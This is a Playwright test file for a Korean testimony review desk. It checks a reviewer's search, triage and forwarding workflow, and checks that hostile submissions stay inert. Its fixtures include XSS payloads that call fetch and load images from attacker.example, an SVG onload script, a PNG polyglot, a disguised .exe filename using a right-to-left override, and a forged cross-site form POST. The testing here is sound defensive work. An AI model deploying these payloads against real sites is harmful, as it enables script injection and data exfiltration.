"""The desk in Debian's Chromium, JavaScript off and on: a Korean reviewer's day, and attacks.

A reviewer who reads only Korean searches for a two-syllable word and gets
exactly the testimonies that hold it, sets a status, adds a tag, writes a
note, replies and forwards, all with the mouse and keyboard on the desk's
own pages. A hostile submission (script in the testimony, the field names,
the answers and the question labels; SVG, HTML and polyglot attachments;
right-to-left overrides) runs nothing and makes the browser fetch nothing
from anywhere. A page without the secret, a wrong host name and a form on
another site are refused. axe-core finds no violation in any language.
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page, Request

from portal.core.age import X25519Identity
from portal.core.manifest import build_manifest
from portal.review.custody import CustodyLog
from portal.review.desk.server import DeskServer
from portal.review.desk.settings import LANGUAGES, DeskSettings
from tests.desk_support import REVIEWER, Opened, Witness, open_submissions, running_desk
from tests.questionnaire_support import QUESTIONNAIRE
from tests.review_support import craft, make_store, open_args, review
from tests.support import REPO

pytestmark = [pytest.mark.browser, pytest.mark.slow]

MARKER = "PWNED-desk-7c1"
SCRIPT = (
    f"<script>console.log('{MARKER}');document.title='{MARKER}';"
    "fetch('http://attacker.example/leak')</script>"
    f"<img src=http://attacker.example/x.png onerror=\"console.log('{MARKER}')\">"
    "<link rel=stylesheet href=http://attacker.example/s.css>"
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="console.log(\'{MARKER}\')">'
    '<image href="http://attacker.example/i.png"/></svg>'
).encode()
SCREENSHOTS = REPO / "test-output" / "screenshots"
DOCS_SCREENSHOTS = (
    REPO / "docs" / "screenshots" if os.environ.get("UPDATE_DOCS_SCREENSHOTS") else SCREENSHOTS
)
TEXTS = {
    "k1": "1998년 겨울 회령 보위부 구류장에서 고문을 당했습니다. 같은 방에 다섯 명이 있었습니다.",
    "k2": "회령시 근처 교화소에서 경비원으로 일했습니다. 제가 본 것을 말씀드립니다.",
    "k3": "청진 집결소에서 고문 이야기를 들었습니다.",
    "k4": "평양에서 살다가 2011년에 국경을 넘었습니다.",
}


@dataclass
class Desk:
    server: DeskServer
    opened: Opened
    ids: dict[str, str]
    hostile: str
    partner: X25519Identity
    tmp: Path

    @property
    def url(self) -> str:
        return self.server.url

    @property
    def origin(self) -> str:
        return f"http://{self.server.state.host}"


def _hostile_manifest(sid: str, attachments: list[Any]) -> bytes:
    honest = QUESTIONNAIRE.sealed("ko")
    questions = tuple(
        dataclasses.replace(q, label=f"{q.label} {SCRIPT}", label_en=f"\u202e{q.label_en} {SCRIPT}")
        for q in honest.questions
    )
    sealed = dataclasses.replace(honest, questions=questions)
    fields = {q.id: f"답변 {SCRIPT}" for q in questions if not q.choices}
    fields["testimony"] = f"회령 {SCRIPT} \u202eevil\u202c"
    fields[f"이름{SCRIPT}"] = SCRIPT
    return build_manifest(sid, fields, "ko", attachments, questionnaire=sealed)


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    witness = X25519Identity.generate()
    witnesses = [
        Witness(TEXTS["k1"], reply_key=witness, fields={"consent": "yes"},
                files=[("사진.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64)]),
        Witness(TEXTS["k2"], fields={"consent": "anonymous"}),
        Witness(TEXTS["k3"], fields={"consent": "no"}),
        Witness(TEXTS["k4"]),
    ]  # fmt: skip
    opened = open_submissions(tmp_path, witnesses)
    # The hostile one is crafted as an attacker would, and opened into the same folder.
    identity = _read_identity(tmp_path)
    store = make_store(tmp_path / "hostile-data")
    hostile = craft(
        store,
        identity.recipient,
        _hostile_manifest,
        [
            ("x.svg", SVG),
            ("x.html", SCRIPT.encode()),
            (f"{SCRIPT}.png", b"\x89PNG\r\n\x1a\n" + SCRIPT.encode()),
            ("evil\u202egpj.exe", b"MZ"),
        ],
    )
    run = review(open_args(store.root, tmp_path / "reviewer-id.txt", opened.root, opened.custody))
    assert run.status == 0, run.err
    partner = X25519Identity.generate()
    settings = DeskSettings(outbox=tmp_path / "outbox", bundles=tmp_path / "bundles")
    with running_desk(opened, settings) as server:
        yield Desk(
            server, opened, dict(zip(TEXTS, opened.ids, strict=True)), hostile, partner, tmp_path
        )


def _read_identity(tmp_path: Path) -> X25519Identity:
    from portal.core.age import parse_identity

    line = [
        x for x in (tmp_path / "reviewer-id.txt").read_text().splitlines() if x.startswith("AGE-")
    ][0]
    parsed = parse_identity(line)
    assert isinstance(parsed, X25519Identity)
    return parsed


def _context(browser: Browser, javascript: bool, *, audit: bool = False) -> BrowserContext:
    # axe-core is injected as script: its context alone is let past the desk's policy.
    return browser.new_context(
        java_script_enabled=javascript or audit,
        bypass_csp=audit,
        locale="ko-KR",
        viewport={"width": 1280, "height": 900},
    )


def _watch(page: Page, origin: str) -> tuple[list[str], list[str]]:
    signs: list[str] = []
    outside: list[str] = []

    def console(message: ConsoleMessage) -> None:
        if MARKER in message.text:
            signs.append(message.text)

    def dialog(shown: Dialog) -> None:
        signs.append(shown.message)
        shown.dismiss()

    def request(sent: Request) -> None:
        if not sent.url.startswith(origin + "/"):
            outside.append(sent.url)

    page.on("console", console)
    page.on("dialog", dialog)
    page.on("request", request)
    return signs, outside


def _hits(page: Page) -> set[str]:
    return set(page.eval_on_selector_all("tr.hit", "rows => rows.map(r => r.dataset.id)"))


def _search(page: Page, words: str) -> None:
    page.fill("#f-q", words)
    page.click("form.filters button[type=submit]")
    page.wait_for_load_state()


@pytest.mark.parametrize("javascript", [False, True], ids=["js-off", "js-on"])
def test_a_korean_reviewer_searches_triages_replies_and_forwards(
    browser: Browser, desk: Desk, javascript: bool
) -> None:
    context = _context(browser, javascript)
    page = context.new_page()
    signs, outside = _watch(page, desk.origin)
    page.goto(desk.url)
    assert page.title().endswith("증언 검토 데스크")
    ids = desk.ids
    _search(page, "고문")
    assert _hits(page) == {ids["k1"], ids["k3"]}
    assert page.inner_text("#count") == "증언 2건을 찾았습니다."
    _search(page, "회령")
    assert _hits(page) == {ids["k1"], ids["k2"], desk.hostile}
    if not javascript:
        _shot(page, "desk-search-ko.png")
    page.click(f'tr.hit[data-id="{ids["k1"]}"] a')
    page.wait_for_load_state()
    assert TEXTS["k1"] in page.inner_text("#answers ~ div, .text") or TEXTS["k1"] in page.content()

    page.select_option("#status-s", "verified")
    page.click("form:has(#status-s) button")
    assert "관리 기록에 남겼습니다." in page.inner_text("p.done")
    page.fill("#tag-s", "회령")
    page.click("form:has(#tag-s) button")
    page.fill("#note-s", "다른 증언 두 건과 날짜가 맞습니다.")
    page.click("form:has(#note-s) button")
    assert "다른 증언 두 건과 날짜가 맞습니다." in page.content()
    assert page.locator("#status-s").input_value() == "verified"

    page.fill("#reply-text", "증언해 주셔서 고맙습니다. 구류장의 위치를 더 알려 주실 수 있습니까?")
    page.click("form:has(#reply-text) button")
    assert "보낼 편지함에 넣었습니다" in page.inner_text("p.done")
    assert len(list((desk.tmp / "outbox").rglob("*.age"))) == 1

    page.fill("#recipient", str(desk.partner.recipient))
    page.click("form:has(#recipient) button")
    assert "암호화된 묶음을 만들었습니다" in page.inner_text("p.done")
    assert len(list((desk.tmp / "bundles").glob("*.age"))) == 1
    if not javascript:
        _shot(page, "desk-case-ko.png")

    # The list shows the new state, and filters by it.
    page.goto(desk.url + "?status=forwarded&tag=%ED%9A%8C%EB%A0%B9")
    assert _hits(page) == {ids["k1"]}
    # A forward the witness's consent does not allow is refused, and says why.
    page.goto(desk.url + f"case/{ids['k3']}")
    page.fill("#recipient", str(desk.partner.recipient))
    page.click("form:has(#recipient) button")
    assert "아무것도 보내지 않았습니다" in page.inner_text("div.warn")
    assert len(list((desk.tmp / "bundles").glob("*.age"))) == 1

    entries = [e.entry for e in CustodyLog(desk.opened.custody).entries()]
    mine = [(e.action, e.details.get("change")) for e in entries if e.reviewer == REVIEWER]
    assert [a for a, _c in mine].count("reply") == 1 and [a for a, _c in mine].count("forward") == 1
    assert ("case", "note") in mine and ("case", "tag") in mine
    assert signs == [] and outside == []
    context.close()


@pytest.mark.parametrize("javascript", [False, True], ids=["js-off", "js-on"])
def test_a_hostile_submission_runs_nothing_and_fetches_nothing(
    browser: Browser, desk: Desk, javascript: bool
) -> None:
    context = _context(browser, javascript)
    page = context.new_page()
    popups: list[str] = []
    context.on("page", lambda p: popups.append(p.url))
    signs, outside = _watch(page, desk.origin)
    pages = [desk.url, desk.url + "?q=%ED%9A%8C%EB%A0%B9", desk.url + f"case/{desk.hostile}"]
    pages += [desk.url.replace("/ko/", f"/{lang}/") + f"case/{desk.hostile}" for lang in LANGUAGES]
    links: set[str] = set()
    for url in pages:
        page.goto(url)
        assert MARKER not in page.title()
        links.update(page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)"))
    case = page.content()
    assert "[U+202E]" in case
    files = sorted(u for u in links if "/file/" in u)
    # Only the PNG polyglot is linked: a PNG by its safe name and by its first bytes.
    assert {url.split("/file/")[1] for url in files} == {f"{desk.hostile}/3"}
    for url in [*files, *(desk.url + f"file/{desk.hostile}/{n}" for n in (1, 2, 4))]:
        try:
            page.goto(url)
        except Exception as exc:  # noqa: BLE001 (a download or an error page runs nothing)
            assert "Download is starting" in str(exc) or "ERR_" in str(exc), exc
        assert MARKER not in page.title()
    assert signs == [] and outside == [] and popups == []
    context.close()


def test_pages_without_the_secret_with_a_wrong_host_or_posted_from_another_site_are_refused(
    browser: Browser, desk: Desk
) -> None:
    context = _context(browser, True)
    page = context.new_page()
    port = desk.server.port
    response = page.goto(f"http://127.0.0.1:{port}/ko/")
    assert response is not None and response.status == 404
    response = page.goto(desk.url.replace("127.0.0.1", "localhost"))
    assert response is not None and response.status == 421
    # Even an attacker who knew the secret and this run's form token is refused.
    sid = desk.ids["k4"]
    attack = (
        f'<!doctype html><html lang="en"><title>a</title><form method="post" '
        f'action="{desk.url}change"><input name="csrf_token" value="{desk.server.state.csrf}">'
        f'<input name="key" value="{sid}"><input name="change" value="status">'
        '<input name="value" value="closed"><button id="go">go</button></form></html>'
    )
    context.route(
        "http://attacker.example/**",
        lambda route: route.fulfill(body=attack, content_type="text/html"),
    )
    before = CustodyLog(desk.opened.custody).verify().count
    page.goto("http://attacker.example/")
    with page.expect_navigation():
        page.click("#go")
    assert "refused" in page.content()
    assert CustodyLog(desk.opened.custody).verify().count == before
    context.close()


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_desk_has_no_accessibility_violations(browser: Browser, desk: Desk, lang: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    context = _context(browser, False, audit=True)
    page = context.new_page()
    base = desk.url.replace("/ko/", f"/{lang}/")
    for url in (base, base + "?q=%ED%9A%8C%EB%A0%B9", base + f"case/{desk.ids['k1']}",
                base + f"case/{desk.hostile}"):  # fmt: skip
        page.goto(url)
        result = Axe().run(page)
        assert result.violations_count == 0, (url, result.generate_report())
    context.close()


def _shot(page: Page, name: str) -> None:
    DOCS_SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=DOCS_SCREENSHOTS / name, full_page=True)


def test_screenshot_of_the_reviewer_settings_free_start(browser: Browser, desk: Desk) -> None:
    """The list as a reviewer first sees it, in Korean (docs/screenshots/desk-list-ko.png)."""
    context = _context(browser, False)
    page = context.new_page()
    page.goto(desk.url)
    assert len(_hits(page)) == 5
    _shot(page, "desk-list-ko.png")
    context.close()
    assert json.dumps(sorted(desk.ids)) == json.dumps(sorted(TEXTS))
